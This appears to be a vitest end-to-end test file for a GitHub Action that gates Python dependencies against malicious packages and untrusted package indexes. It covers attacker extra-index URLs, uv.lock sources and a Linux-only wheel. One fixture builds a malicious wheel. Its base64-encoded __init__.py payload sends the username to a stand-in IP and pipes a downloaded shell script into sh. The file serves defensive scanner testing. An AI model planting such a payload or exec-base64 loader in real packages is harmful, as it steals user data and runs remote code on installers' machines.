// The bundled action end to end on the index questions of issue 10: a pull request that points a package
// at its own index, a malicious wheel pip installs only on Linux beside an honest pure wheel, an index
// that answers nothing useful (a mistyped index-url), through dist/ with the loopback index and GitHub API.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { makeWheel } from '../fixtures/archives.js';
import { honestRelease } from '../action/fixtures.js';
import { makeRepo, runAction, useBundledAction } from '../action/harness.js';
import { startGitHubServer } from '../servers/github-server.js';
import { type ServedVersion, servedRelease, startIndexServer } from '../servers/index-server.js';

useBundledAction();

const PAYLOAD = Buffer.from(
  'import os, socket, getpass\ns = socket.create_connection(("198.51.100.23", 4444))\ns.send(getpass.getuser().encode())\nos.system("curl -s http://198.51.100.23/x.sh | sh")\n',
).toString('base64');

/** An honest sdist and pure wheel, and a manylinux wheel (what pip picks on the Linux runner) that is not. */
function linuxOnlyMalware(): ServedVersion {
  const release = honestRelease('fastlib', '2.0');
  release.files.push({
    filename: 'fastlib-2.0-cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.whl',
    bytes: makeWheel({
      name: 'fastlib',
      version: '2.0',
      files: {
        'fastlib/__init__.py': `import base64\n\nexec(base64.b64decode("${PAYLOAD}"))\n`,
        'fastlib/core.py': 'def add(a, b):\n    return a + b\n',
      },
    }),
  });
  return release;
}

const report = (dir: string) => JSON.parse(readFileSync(join(dir, 'pypi-malware-gate.json'), 'utf8'));

describe('the index a package comes from, and what pip installs (bundled action)', () => {
  it('fails a PR that adds --extra-index-url <attacker> and a package, without asking that index', async () => {
    const gh = await startGitHubServer();
    const trusted = await startIndexServer({
      projects: { 'tidy-tables': { versions: [honestRelease('tidy-tables', '1.4.2')] } },
    });
    const attacker = await startIndexServer({
      projects: { 'evil-pkg': { versions: [servedRelease('evil-pkg', '1.0')] } },
    });
    try {
      const ws = makeRepo(
        { 'requirements.txt': 'tidy-tables==1.4.2\n' },
        { 'requirements.txt': `--extra-index-url ${attacker.url}\ntidy-tables==1.4.2\nevil-pkg==1.0\n` },
      );
      const r = await runAction(ws, gh.url, { 'index-url': trusted.url, 'index-token': 'private-token' });
      expect(r.code).toBe(1);
      expect(r.stdout).toContain(
        `has pip fetch it from ${attacker.url}, which the configuration does not name`,
      );
      expect(attacker.requests).toEqual([]);
      expect(trusted.requests.every((q) => q.project !== 'evil-pkg')).toBe(true);
      const evil = report(ws.dir).packages.find((p: { ref: { name: string } }) => p.ref.name === 'evil-pkg');
      // Nothing was analysed (the index was not asked): unscannable, with the signal as the reason.
      expect(evil.verdict).toBe('unscannable');
      expect(r.stdout).toContain(`requirements.txt has pip fetch packages from ${attacker.url}`);
      expect(evil.signals.map((s: { id: string }) => s.id)).toContain('untrusted-index');
    } finally {
      await attacker.close();
      await trusted.close();
      await gh.close();
    }
  }, 120_000);

  it('fails a PR that only adds --extra-index-url <attacker>, though no package changed', async () => {
    const gh = await startGitHubServer();
    const trusted = await startIndexServer({
      projects: { 'tidy-tables': { versions: [honestRelease('tidy-tables', '1.4.2')] } },
    });
    const attacker = await startIndexServer({ projects: {} });
    try {
      const ws = makeRepo(
        { 'requirements.txt': 'tidy-tables==1.4.2\n' },
        { 'requirements.txt': `--extra-index-url ${attacker.url}\ntidy-tables==1.4.2\n` },
      );
      const r = await runAction(ws, gh.url, { 'index-url': trusted.url });
      expect(r.code).toBe(1);
      expect(r.stdout).toContain(
        `requirements.txt has pip fetch packages from ${attacker.url}, which the configuration does not name`,
      );
      expect(attacker.requests).toEqual([]);
    } finally {
      await attacker.close();
      await trusted.close();
      await gh.close();
    }
  }, 120_000);

  it('fetches a uv.lock package from the registry it is locked to, and fails one locked to an unknown index', async () => {
    const gh = await startGitHubServer();
    const pypi = await startIndexServer({ projects: {} });
    const mirror = await startIndexServer({
      projects: { 'tidy-tables': { versions: [honestRelease('tidy-tables', '1.4.2')] } },
    });
    const attacker = await startIndexServer({ projects: {} });
    const uvLock = (extra: string) =>
      [
        'version = 1',
        'requires-python = ">=3.9"',
        '',
        '[[package]]',
        'name = "tidy-tables"',
        'version = "1.4.2"',
        `source = { registry = "${mirror.url}" }`,
        extra,
      ].join('\n');
    try {
      const inputs = { 'index-url': pypi.url, 'extra-index-urls': mirror.url };
      const good = makeRepo({ 'uv.lock': uvLock('') }, { 'uv.lock': uvLock('') });
      const ok = await runAction(good, gh.url, inputs, 'schedule');
      expect(ok.code).toBe(0);
      expect(pypi.requests).toEqual([]);
      expect(mirror.requests.some((q) => q.kind === 'file')).toBe(true);

      const evil = [
        '',
        '[[package]]',
        'name = "helper"',
        'version = "1.0"',
        `source = { registry = "${attacker.url}" }`,
        '',
      ].join('\n');
      const ws = makeRepo({ 'uv.lock': uvLock('') }, { 'uv.lock': uvLock(evil) });
      const r = await runAction(ws, gh.url, inputs);
      expect(r.code).toBe(1);
      expect(r.stdout).toContain(`uv.lock has pip fetch packages from ${attacker.url}`);
      const helper = report(ws.dir).packages.find((p: { ref: { name: string } }) => p.ref.name === 'helper');
      expect(helper.verdict).toBe('unscannable');
      expect(attacker.requests).toEqual([]);
    } finally {
      await attacker.close();
      await mirror.close();
      await pypi.close();
      await gh.close();
    }
  }, 180_000);

  it('passes the same PR when the base branch config allows that index, and never sends it the token', async () => {
    const gh = await startGitHubServer();
    const trusted = await startIndexServer({ projects: {} });
    const internal = await startIndexServer({
      projects: { 'tidy-tables': { versions: [honestRelease('tidy-tables', '1.4.2')] } },
    });
    try {
      const config = `allowed-indexes:\n  - ${internal.url}\n`;
      const ws = makeRepo(
        { '.github/pypi-malware-gate.yml': config, 'requirements.txt': '' },
        {
          '.github/pypi-malware-gate.yml': config,
          'requirements.txt': `--index-url ${internal.url}\ntidy-tables==1.4.2\n`,
        },
      );
      const r = await runAction(ws, gh.url, { 'index-url': trusted.url, 'index-token': 'private-token' });
      expect(r.code).toBe(0);
      expect(internal.requests.length).toBeGreaterThan(0);
      expect(internal.requests.every((q) => !q.hadAuth)).toBe(true);
    } finally {
      await internal.close();
      await trusted.close();
      await gh.close();
    }
  }, 120_000);

  it('fails on a malicious manylinux wheel beside an honest sdist and pure wheel, naming the wheel', async () => {
    const gh = await startGitHubServer();
    const index = await startIndexServer({ projects: { fastlib: { versions: [linuxOnlyMalware()] } } });
    try {
      const ws = makeRepo({ 'requirements.txt': '' }, { 'requirements.txt': 'fastlib==2.0\n' });
      const r = await runAction(ws, gh.url, { 'index-url': index.url });
      expect(r.code).toBe(1);
      const fastlib = report(ws.dir).packages[0];
      expect(fastlib.verdict).toBe('malicious');
      expect(fastlib.artifacts.map((a: { filename: string }) => a.filename)).toEqual([
        'fastlib-2.0.tar.gz',
        'fastlib-2.0-py3-none-any.whl',
        'fastlib-2.0-cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.whl',
      ]);
      expect(fastlib.evidence.some((e: { path: string }) => e.path === 'fastlib/__init__.py')).toBe(true);
    } finally {
      await index.close();
      await gh.close();
    }
  }, 120_000);

  it('fails a run whose index-url knows none of the pins, naming the index', async () => {
    const gh = await startGitHubServer();
    const index = await startIndexServer({ projects: { a: null, b: null, c: null } });
    try {
      const req = 'a==1.0\nb==1.0\nc==1.0\n';
      const ws = makeRepo({ 'requirements.txt': req }, { 'requirements.txt': req });
      const r = await runAction(
        ws,
        gh.url,
        { 'index-url': index.url, 'fail-on-unscannable': 'false' },
        'schedule',
      );
      expect(r.code).toBe(1);
      expect(r.stdout).toContain(
        `index ${index.url} served nothing for 3 of the 3 package(s) asked (3 unknown project(s): a, b, c)`,
      );
    } finally {
      await index.close();
      await gh.close();
    }
  }, 120_000);
});
